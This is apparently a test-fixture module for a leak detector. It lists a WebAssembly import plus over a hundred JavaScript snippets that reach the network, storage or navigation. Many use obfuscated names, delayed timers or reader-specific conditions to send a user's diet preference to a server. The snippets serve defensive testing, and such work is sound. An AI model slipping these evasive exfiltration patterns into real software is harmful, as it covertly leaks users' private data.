// Leaks that somebody could have put into the package, each of which the reading must find.

/** WebAssembly that asks for one function more. */
export async function withImport(bytes) {
  const { default: binaryen } = await import("binaryen");
  const module = binaryen.readBinary(bytes);
  const { BulkMemory, Multivalue, MutableGlobals, NontrappingFPToInt, ReferenceTypes, SignExt } = binaryen.Features;
  module.setFeatures(BulkMemory | Multivalue | MutableGlobals | NontrappingFPToInt | ReferenceTypes | SignExt);
  module.addFunctionImport("leak", "a", "leak", binaryen.none, binaryen.none);
  // Called, as a leak would be: what nobody calls is no import after the next optimisation.
  module.addFunction("leaks", binaryen.none, binaryen.none, [], module.call("leak", [], binaryen.none));
  module.addFunctionExport("leaks", "leaks");
  const leaking = module.emitBinary();
  module.dispose();
  return leaking;
}

/** JavaScript that is appended to a script of the package. What begins with a block has names of its own. */
export const leaksInScripts = {
  fetch: 'fetch("/x")',
  "fetch, as a property": 'globalThis.fetch("/x")',
  "fetch, its name put together": 'window["fet" + "ch"]("/x")',
  "fetch, its name put together elsewhere": '{ const name = ["f", "etch"].join(""); self[name]("/x") }',
  "a name that only exists at run time": '{ const names = Object.keys({}); globalThis[names[0]]("/x") }',
  "another name for the whole world": '{ const world = window; world[atob("ZmV0Y2g=")]("/x") }',
  "the world out of an element": '{ const name = String(1); ({}).ownerDocument.defaultView[name]("/x") }',
  "fetch where a local has its name elsewhere": '{ const f = (fetch) => fetch; f(0) } fetch("/x")',
  sendBeacon: 'navigator.sendBeacon("/x")',
  "sendBeacon, taken out": '{ const { sendBeacon } = navigator; sendBeacon("/x") }',
  XMLHttpRequest: 'new XMLHttpRequest().open("GET", "/x")',
  WebSocket: 'new WebSocket("ws://x")',
  EventSource: 'new EventSource("/x")',
  WebTransport: 'new WebTransport("https://x")',
  RTCPeerConnection: "new RTCPeerConnection()",
  "new Image().src": 'new Image().src = "/x"',
  "the source of any element": '{ const element = {}; element.src = "/x" }',
  "an element that loads": 'document.createElement("img")',
  "an element whose name is not known": "document.createElement(String({}))",
  "an attribute that loads": '{ const element = {}; element.setAttribute("srcset", "/x") }',
  "an attribute that loads, by way of call": '{ const element = {}; element.setAttribute.call(element, "src", "/x") }',
  "an attribute that loads, as a node": '{ const element = {}; element.getAttributeNode("src").value = "/x" }',
  "the source of any element, assigned": '{ const element = {}; Object.assign(element, { src: "/x" }) }',
  "a link that is fetched ahead": '{ const link = {}; link.setAttribute("rel", "prefetch") }',
  "a style that loads": '{ const element = { style: {} }; element.style.backgroundImage = "url(/x)" }',
  "a font": 'new FontFace("x", "url(/x)")',
  Worker: 'new Worker("/x")',
  SharedWorker: 'new SharedWorker("/x")',
  importScripts: 'importScripts("/x")',
  "a service worker": 'navigator.serviceWorker.register("/x")',
  "import()": 'import("/x")',
  "a static import": 'import "https://elsewhere.example/x.js"',
  "an export from elsewhere": 'export * from "https://elsewhere.example/x.js"',
  "window.open": 'open("/x")',
  "going elsewhere": 'location = "/x"',
  "going elsewhere, as a property": 'location.href = "/x"',
  "going elsewhere, through the document": 'document.location = "/x"',
  "a form that is sent": "{ const form = {}; form.requestSubmit() }",
  "document.write": 'document.write("<img src=/x>")',
  innerHTML: '{ const element = {}; element.innerHTML = "<img src=/x>" }',
  "a cookie": 'document.cookie = "x=1"',
  localStorage: 'localStorage.setItem("x", 1)',
  sessionStorage: 'globalThis.sessionStorage.setItem("x", 1)',
  indexedDB: 'indexedDB.open("x")',
  "a cache": 'caches.open("x")',
  postMessage: 'globalThis.postMessage("x", "*")',
  BroadcastChannel: 'new BroadcastChannel("x")',
  eval: 'eval("x")',
  Function: 'new Function("x")()',
  "Function, out of a function": '(() => {}).constructor("x")()',
  "a timer that is given a text": 'clearTimeout(setTimeout("x"))',
  "going elsewhere by a part of the address": 'location.search = "x"',
  "going elsewhere by the hash of an address": 'document.location.hash = "x"',
  "going elsewhere by a link's host": '{ const a = {}; a.hostname = "x.example" }',
  "a link's host, on a list": '{ const a = {}; [a.host] = ["x.example"] }',
  "a link's path, out of an object": '{ const a = {}; ({ x: a.pathname } = { x: "/x" }) }',
  "a link's port, in a loop": "{ const a = {}; for (a.port of [1]); }",
  "a link's port, counted up": "{ const a = {}; a.port++ }",
  "a link's query, its name put together": '{ const a = {}; a["sea" + "rch"] = "x" }',
  "a property of an element, its name made at run time":
    '{ const element = {}; element[["crs"].map((name) => [...name].reverse().join(""))[0]] = "/x" }',
  "a method of the world out of an element, its name made at run time":
    '{ const name = (text) => [...text].reverse().join(""); (({})[name("weiVtluafed")] ?? {})[name("hctef")]?.("/x") }',
  "a property whose name is a value": '{ const f = (a, b) => { a[b] = "/x" }; f({}, "src") }',
  "a method whose name is a value": "{ const f = (a, b) => a[b](); f({}, 1) }",
  "the value of an attribute": '{ const img = {}; img.attributes[0].value = "/x" }',
  "the text of an attribute": '{ const img = {}; img.attributes[0].textContent = "/x" }',
  "the node of an attribute": '{ const img = {}; img.attributes.item(0).nodeValue = "/x" }',
  "an attribute's own node, moved": "{ const img = {}; img.removeAttributeNode({}) }",
  "Reflect.set": '{ const img = {}; Reflect.set(img, "src", "/x") }',
  "Reflect.apply": '{ const f = () => {}; Reflect.apply(f, {}, ["/x"]) }',
  "Reflect, under another name": "{ const r = Reflect; r.set({}, {}, {}) }",
  "Object.defineProperty": '{ const img = {}; Object.defineProperty(img, "x", {}) }',
  "Object.defineProperties": "{ const img = {}; Object.defineProperties(img, {}) }",
  "Object.assign of what is not written here": "{ const f = (a, b) => Object.assign(a, b); f({}, {}) }",
  "a style through its map": '{ const a = {}; a.attributeStyleMap.set("background", "url(/x)") }',
  "an animation that loads": '{ const a = {}; a.animate({ backgroundImage: "url(/x)" }, 1) }',
  "an animation that loads, made first": "{ new KeyframeEffect({}, {}, 1) }",
  "a link that is fetched ahead, as a property": '{ const link = {}; link.rel = "prefetch" }',
  "a link's media": '{ const link = {}; link.media = "print" }',
  "a script's type": '{ const script = {}; script.type = "speculationrules" }',
  "a script's text": '{ const script = {}; script.text = "x" }',
  "a frame's name": '{ const frame = {}; frame.name = "x" }',
  "an image that is decoded": "{ const img = {}; img.decode = 1; img.loading = 1 }",
  "the picture of a video": '{ const video = {}; video.poster = "/x" }',
  "the stream of a video": "{ const video = {}; video.srcObject = {} }",
  "the address of an SVG": '{ const use = {}; use.href.baseVal = "/x" }',
  "a sheet of styles": '{ const sheet = {}; sheet.addRule("p", "background:url(/x)") }',
  "a rule of a sheet": '{ const rule = {}; rule.selectorText = "p" }',
  "a copy of a document": "{ const d = {}; d.implementation.createHTMLDocument() }",
  "a template's markup": '{ const t = {}; t.setHTMLUnsafe("<img src=/x>") }',
  "a shadow root's markup": '{ const t = {}; t.shadowRoot.innerHTML = "<img src=/x>" }',
  "markup read back": "{ const t = {}; t.getHTML() }",
  "a parser": 'new DOMParser().parseFromString("<img src=/x>", "text/html")',
  "a range that parses": 'new Range().createContextualFragment("<img src=/x>")',
  "an XSL transformation": "new XSLTProcessor()",
  "a notification": 'new Notification("x")',
  "a report": "new ReportingObserver(() => {})",
  "a payment": "new PaymentRequest([], {})",
  "a stream through a pipe": "{ const a = {}; a.pipeTo({}) }",
  "a lock that other tabs see": 'navigator.locks.request("x", () => {})',
  "the name of the window": 'window.name = "x"',
  "the name of the window, alone": 'name = "x"',
  "the state of the history": 'history.replaceState({}, "", "/x")',
  "the Navigation API": 'navigation.navigate("/x")',
  "the title, which goes into the history": 'document.title = "x"',
  "the domain": 'document.domain = "x"',
  "a message to a worker": "{ const w = {}; w.controller.postMessage({}) }",
  "a channel": "new MessageChannel()",
  "a picture of a canvas": "{ const c = {}; c.toDataURL() }",
  "a module's address": "import.meta.resolve('/x')",
};

/** A word more in the tables of the package. */
export const wordsInTables = {
  "an element of rich words that loads": ['strong:""', 'strong:"",img:""'],
  "an attribute of rich words that loads": ['b:""', 'b:"src"'],
  "another beginning of an address": ["mailto: tel:", "mailto: tel: javascript:"],
};

/** What a reading cannot see: a function that is taken out of any object by a name that is only made at run time, and then called
 *  as a variable. The visit in a browser finds these. */
export const unseen = {
  "a method, its name made at run time, called as a variable":
    '{ const name = (text) => [...text].reverse().join(""); const send = ({})[name("nocaeBdnes")]; send?.("/x") }',
  "the world out of an element, every name made at run time":
    '{ const name = (text) => [...text].reverse().join(""); const ask = (({})[name("weiVtluafed")] ?? {})[name("hctef")]; ask?.("/x") }',
};

const DIET = "globalThis.tailorbird.page.export().preferences.diet";
/** How long they wait after the page was opened, in milliseconds. */
export const LEAKS_AFTER = 30_000;
const later = (leak) => `setTimeout(() => { ${leak} }, ${LEAKS_AFTER});`;

/** Leaks that the demo's own policy lets through to its own server. */
export const leaksInVisits = {
  "a module whose address tells a preference": later(`import("/words.js?" + ${DIET})`),
  "a style whose address tells one, no name of which is written": later(
    `const name = (text) => [...text].reverse().join("");
     const link = document.createElement(name("knil"));
     link[name("ler")] = name("teehselyts");
     link[name("ferh")] = "/style.css?" + ${DIET};
     document.head.append(link);`,
  ),
  "a cookie, which goes with the next page": later(`document.cookie = "diet=" + ${DIET}`),
  "going to an address that tells it": later(`if (${DIET} === "vegetarian") location.href = "/?" + ${DIET}`),
  "something that is kept": later(`localStorage.setItem("diet", ${DIET})`),
};

/** What a leak under this condition asks for. */
export const addressOf = (what) => `/words.js?leak-${what.replaceAll(" ", "-")}`;

const CONDITIONS = {
  "for readers of German": 'navigator.language.startsWith("de")',
  "on Sundays": "new Date().getDay() === 0",
  "before six in the morning": "new Date().getHours() < 6",
  "east of Cairo": "new Date().getTimezoneOffset() < -180",
  "after a quarter of an hour": "performance.now() > 900_000",
  "for readers who came by a letter": "location.search",
  "for those who are remembered": "localStorage.length > 1",
};

/** Leaks for some readers only: the condition is looked at twice a minute. */
export const leaksUnderConditions = Object.fromEntries(
  Object.entries(CONDITIONS).map(([what, condition]) => [
    what,
    `setInterval(() => { if (${condition}) import("${addressOf(what)}"); }, ${LEAKS_AFTER});`,
  ]),
);
